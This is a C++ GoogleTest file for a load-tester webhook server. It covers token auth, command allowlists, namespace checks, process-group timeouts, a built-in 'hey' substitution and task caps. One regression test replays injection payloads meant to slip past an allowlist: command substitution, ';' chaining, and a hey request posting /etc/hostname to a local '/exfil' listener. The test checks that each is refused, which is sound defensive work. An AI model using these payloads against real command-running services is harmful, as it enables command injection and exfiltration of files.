// Access control (token, allowlist, namespace regexp), timeouts that kill whole process groups,
// and the built-in hey substitution.
#include <gtest/gtest.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <filesystem>

#include "loadtester_fixture.h"

namespace aviary::loadtester {
namespace {

using testing::eventually;
using testing::payload;
using testing::processGone;
using testing::readFile;
using testing::ServerHarness;
using testing::TempDir;

TEST(LoadtesterSecurityTest, TokenIsRequiredExceptForHealthAndMetrics) {
  LoadtesterOptions o;
  o.token = "s3cret";
  ServerHarness h(o);
  auto body = payload(R"({"type":"bash","cmd":"true"})");
  auto r = h.post("/", body);
  EXPECT_EQ(r.status, 401);
  EXPECT_NE(r.body.find("unauthorized"), std::string::npos);
  EXPECT_EQ(h.post("/", body, {{"Authorization", "Bearer wrong"}}).status, 401);
  EXPECT_EQ(h.post("/gate/check", payload("")).status, 401);
  EXPECT_EQ(h.post("/gate/approve", "").status, 401);
  EXPECT_EQ(h.post("/", body, {{"Authorization", "Bearer s3cret"}}).status, 200);
  EXPECT_EQ(h.post("/", body, {{"Authorization", "bearer s3cret"}}).status, 200);  // scheme in any case
  EXPECT_EQ(h.post("/", body, {{"Authorization", "Bearer s3cret2"}}).status, 401);
  EXPECT_EQ(h.post("/?token=s3cret", body).status, 200) << "Flagger webhooks cannot set headers: URL token";
  EXPECT_EQ(h.get("/healthz").status, 200);
  EXPECT_EQ(h.get("/metrics").status, 200);
}

TEST(LoadtesterSecurityTest, AllowlistRejectsOtherCommandsAndRunsNothing) {
  TempDir dir;
  LoadtesterOptions o;
  o.allowCmd = {"echo [a-z]+", "hey .*"};
  ServerHarness h(o);
  std::string marker = dir.file("ran");
  auto r = h.post("/", payload(R"({"type":"bash","cmd":"touch )" + marker + R"("})"));
  EXPECT_EQ(r.status, 403);
  EXPECT_NE(r.body.find("command not allowed"), std::string::npos) << r.body;
  // Full match: a prefix is not enough.
  EXPECT_EQ(h.post("/", payload(R"({"type":"bash","cmd":"echo ok; touch )" + marker + R"("})")).status, 403);
  EXPECT_EQ(h.post("/", payload(R"({"cmd":"touch )" + marker + R"("})")).status, 403);
  EXPECT_FALSE(std::filesystem::exists(marker));
  auto ok = h.post("/", payload(R"({"type":"bash","cmd":"echo ok","returnCmdOutput":"true"})"));
  EXPECT_EQ(ok.status, 200);
  EXPECT_EQ(ok.body, "ok\n");
}

TEST(LoadtesterSecurityTest, InvalidAllowlistPatternsAreAllReported) {
  LoadtesterOptions o;
  o.port = 0;
  o.allowCmd = {"(", "ok", "[z-a]"};
  auto s = LoadtesterServer::start(o);
  ASSERT_FALSE(s.ok());
  EXPECT_NE(s.error().message.find("--allow-cmd \"(\""), std::string::npos) << s.error().message;
  EXPECT_NE(s.error().message.find("--allow-cmd \"[z-a]\""), std::string::npos) << s.error().message;
}

TEST(LoadtesterSecurityTest, NamespaceRegexpIsFlaggersAuthorizer) {
  LoadtesterOptions o;
  o.namespaceRegexp = "^prod";
  ServerHarness h(o);
  auto r = h.post("/", payload(R"({"type":"bash","cmd":"true"})", "podinfo", "test"));
  EXPECT_EQ(r.status, 403);
  EXPECT_EQ(r.body, "Forbidden");
  EXPECT_EQ(h.post("/gate/open", payload("", "podinfo", "test")).status, 403);
  EXPECT_EQ(h.post("/", payload(R"({"type":"bash","cmd":"true"})", "podinfo", "prod-eu")).status, 200);
}

// The command starts a child that would outlive it; the timeout must kill both.
TEST(LoadtesterTimeoutTest, PerTaskTimeoutKillsTheProcessGroup) {
  TempDir dir;
  ServerHarness h;
  std::string pidFile = dir.file("child.pid");
  auto start = std::chrono::steady_clock::now();
  auto r = h.post("/", payload(R"({"type":"bash","timeout":"1s","cmd":"sleep 60 & echo $! > )" + pidFile + R"(; wait"})"));
  auto took = std::chrono::steady_clock::now() - start;
  EXPECT_EQ(r.status, 500);
  EXPECT_NE(r.body.find("signal: killed (timeout"), std::string::npos) << r.body;
  EXPECT_LT(took, std::chrono::seconds(10));
  pid_t child = std::stoi(readFile(pidFile));
  EXPECT_TRUE(eventually([&] { return processGone(child); })) << "child " << child << " survived";
}

TEST(LoadtesterTimeoutTest, GlobalTimeoutKillsABackgroundCommandAndItsChildren) {
  TempDir dir;
  LoadtesterOptions o;
  o.timeout = std::chrono::seconds(1);
  ServerHarness h(o);
  std::string pidFile = dir.file("child.pid");
  auto r = h.post("/", payload(R"({"cmd":"sh -c 'sleep 60 & echo $! > )" + pidFile + R"(; wait'"})"));
  EXPECT_EQ(r.status, 202);
  ASSERT_TRUE(eventually([&] { return !readFile(pidFile).empty(); }));
  pid_t child = std::stoi(readFile(pidFile));
  EXPECT_TRUE(eventually([&] { return h.server().runningTasks() == 0; }, std::chrono::seconds(10)));
  EXPECT_TRUE(eventually([&] { return processGone(child); })) << "child " << child << " survived";
  auto m = h.get("/metrics");
  EXPECT_NE(m.body.find("aviary_loadtester_tasks_failed_total{type=\"cmd\"} 1"), std::string::npos) << m.body;
}

TEST(LoadtesterTimeoutTest, StopKillsRunningCommands) {
  TempDir dir;
  std::string pidFile = dir.file("pid");
  pid_t pid = 0;
  {
    ServerHarness h;
    EXPECT_EQ(h.post("/", payload(R"({"cmd":"sh -c 'echo $$ > )" + pidFile + R"(; exec sleep 60'"})")).status, 202);
    ASSERT_TRUE(eventually([&] { return !readFile(pidFile).empty(); }));
    pid = std::stoi(readFile(pidFile));
    h.server().stop();
  }
  EXPECT_TRUE(eventually([&] { return processGone(pid); }));
}

TEST(LoadtesterHeyTest, BuiltinHeyReplacesHeyInArgvCommands) {
  TempDir dir;
  std::string out = dir.file("args");
  LoadtesterOptions o;
  o.heyMode = HeyMode::Builtin;
  // Stand-in for `aviary hey`: records the arguments it was given.
  o.builtinHey = {"/bin/sh", "-c", "echo \"$0 $*\" > " + out, "builtin-hey"};
  ServerHarness h(o);
  EXPECT_EQ(h.post("/", payload(R"({"cmd":"hey -z 1m -q 10 -c 2 http://podinfo-canary.test:9898/"})")).status, 202);
  EXPECT_TRUE(eventually([&] { return !readFile(out).empty(); }));
  EXPECT_EQ(readFile(out), "builtin-hey -z 1m -q 10 -c 2 http://podinfo-canary.test:9898/\n");
}

TEST(LoadtesterHeyTest, BuiltinHeyIsOnPathForShellCommands) {
  LoadtesterOptions o;
  o.heyMode = HeyMode::Builtin;
  o.builtinHey = {"/bin/echo", "builtin"};
  ServerHarness h(o);
  auto r = h.post("/", payload(R"({"type":"bash","cmd":"hey -n 1 'http://x/' | tr a-z A-Z","returnCmdOutput":"true"})"));
  EXPECT_EQ(r.status, 200);
  EXPECT_EQ(r.body, "BUILTIN -N 1 HTTP://X/\n");
}

TEST(LoadtesterHeyTest, ExternalModeNeverSubstitutes) {
  LoadtesterOptions o;
  o.heyMode = HeyMode::External;
  o.builtinHey = {"/bin/echo", "builtin"};
  ServerHarness h(o);
  auto r = h.post("/", payload(R"({"type":"bash","cmd":"command -v hey || echo none","returnCmdOutput":"true"})"));
  EXPECT_EQ(r.status, 200);
  EXPECT_EQ(r.body.find("aviary-loadtester-"), std::string::npos) << r.body;
}

TEST(LoadtesterHeyTest, ParseHeyMode) {
  EXPECT_EQ(*parseHeyMode("auto"), HeyMode::Auto);
  EXPECT_EQ(*parseHeyMode("builtin"), HeyMode::Builtin);
  EXPECT_EQ(*parseHeyMode("external"), HeyMode::External);
  EXPECT_FALSE(parseHeyMode("yes").ok());
}

}  // namespace
}  // namespace aviary::loadtester

namespace aviary::loadtester {
namespace {

TEST(LoadtesterTimeoutTest, StopEndsBlockingCommandsInFlight) {
  auto h = std::make_unique<testing::ServerHarness>();
  std::thread client([&] {
    http::Request req;
    req.method = "POST";
    req.url = h->server().url() + "/";
    req.body = testing::payload(R"({"type":"bash","cmd":"sleep 60"})");
    req.timeout = std::chrono::seconds(30);
    (void)http::perform(req);  // the connection is cut by stop(): any outcome is fine here
  });
  ASSERT_TRUE(testing::eventually([&] {
    return h->get("/metrics").body.find("aviary_loadtester_tasks_running{type=\"bash\"} 1") != std::string::npos;
  }));
  auto start = std::chrono::steady_clock::now();
  h->server().stop();
  client.join();
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
}

// Issue 24: the documented patterns of before, and the payloads that got through them.
TEST(LoadtesterSecurityTest, TheIssuesPayloadsRunNothing) {
  TempDir dir;
  // A listener the exfiltrating hey would have posted /etc/hostname to.
  int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof addr;
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(::listen(listener, 4), 0);
  ASSERT_EQ(::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  LoadtesterOptions o;
  o.allowCmd = {R"(curl -sd .* \| grep token)", "hey .*"};
  o.heyMode = HeyMode::External;  // what runs does not matter: nothing may
  ServerHarness h(o);
  const std::string pwned = dir.file("pwned"), pwned2 = dir.file("pwned2");
  const std::vector<std::string> bodies = {
      R"({"type":"bash","cmd":"curl -sd $(touch )" + pwned + R"() http://127.0.0.1:1/ | grep token"})",
      R"({"type":"bash","cmd":"curl -sd x http://127.0.0.1:1/; touch )" + pwned2 + R"(; echo | grep token"})",
      R"({"cmd":"hey -n 1 -c 1 -m POST -D /etc/hostname http://127.0.0.1:)" + port + R"(/exfil"})",
  };
  for (const auto& b : bodies) {
    auto r = h.post("/", payload(b));
    EXPECT_EQ(r.status, 403) << b;
    EXPECT_NE(r.body.find("word by word"), std::string::npos) << r.body;
  }
  EXPECT_EQ(h.server().activeTasks(), 0u);
  EXPECT_FALSE(std::filesystem::exists(pwned));
  EXPECT_FALSE(std::filesystem::exists(pwned2));
  EXPECT_LT(::accept4(listener, nullptr, nullptr, SOCK_CLOEXEC), 0);  // nobody connected
  ::close(listener);
  // With --cmd-shell the hey line is shell text, and still refused.
  LoadtesterOptions shell = o;
  shell.cmdShell = true;
  ServerHarness hs(shell);
  EXPECT_EQ(hs.post("/", payload(bodies[2])).status, 403);
}

TEST(LoadtesterTaskCapTest, TasksBeyondMaxTasksGet429) {
  LoadtesterOptions o;
  o.maxTasks = 3;
  ServerHarness h(o);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(h.post("/", payload(R"({"cmd":"sleep 30"})", "task" + std::to_string(i))).status, 202) << i;
  }
  EXPECT_EQ(h.server().activeTasks(), 3u);
  auto r = h.post("/", payload(R"({"cmd":"sleep 30"})", "task3"));
  EXPECT_EQ(r.status, 429);
  EXPECT_NE(r.body.find("--max-tasks"), std::string::npos) << r.body;
  EXPECT_EQ(h.post("/", payload(R"({"type":"bash","cmd":"echo hi"})", "task4")).status, 429);
  // A task already running is skipped as before, not refused.
  auto dup = h.post("/", payload(R"({"cmd":"sleep 30"})", "task0"));
  EXPECT_EQ(dup.status, 202);
  EXPECT_EQ(dup.headers.find("x-aviary-task")->second, "skipped");
  EXPECT_EQ(h.server().activeTasks(), 3u);
  // Gates are not tasks: they answer at the cap.
  EXPECT_EQ(h.post("/gate/open", payload("")).status, 202);
  EXPECT_EQ(h.post("/gate/check", payload("")).status, 200);
  EXPECT_EQ(h.post("/gate/close", payload("")).status, 202);
  EXPECT_EQ(h.post("/gate/check", payload("")).status, 403);
  auto m = h.get("/metrics");
  EXPECT_NE(m.body.find("aviary_loadtester_requests_rejected_total{reason=\"tasks\"} 2"), std::string::npos) << m.body;
  h.server().stop();
  EXPECT_EQ(h.server().activeTasks(), 0u);
}

size_t threadCount() {
  size_t n = 0;
  for ([[maybe_unused]] const auto& e : std::filesystem::directory_iterator("/proc/self/task")) ++n;
  return n;
}

TEST(LoadtesterTaskCapTest, BackgroundTasksHoldNoThreadEach) {
  ServerHarness h;
  const size_t before = threadCount();
  for (int i = 0; i < 10; ++i) {
    EXPECT_EQ(h.post("/", payload(R"({"cmd":"sleep 30"})", "flood" + std::to_string(i))).status, 202);
  }
  EXPECT_EQ(h.server().activeTasks(), 10u);
  // The HTTP server's connection threads end with their connections; ten tasks add none (they
  // added one each before).
  EXPECT_TRUE(eventually([&] { return threadCount() <= before + 1; })) << threadCount() << " threads, " << before
                                                                        << " before";
  h.server().stop();
  EXPECT_EQ(h.server().activeTasks(), 0u);
}

TEST(LoadtesterTaskCapTest, AFinishedTaskFreesItsSlot) {
  LoadtesterOptions o;
  o.maxTasks = 1;
  ServerHarness h(o);
  auto ok = h.post("/", payload(R"({"type":"bash","cmd":"echo one","returnCmdOutput":"true"})"));
  EXPECT_EQ(ok.status, 200);
  EXPECT_EQ(h.server().activeTasks(), 0u);
  EXPECT_EQ(h.post("/", payload(R"({"cmd":"true"})")).status, 202);
  ASSERT_TRUE(eventually([&] { return h.server().activeTasks() == 0; }));
  EXPECT_EQ(h.post("/", payload(R"({"type":"bash","cmd":"echo two"})")).status, 200);
}

}  // namespace
}  // namespace aviary::loadtester
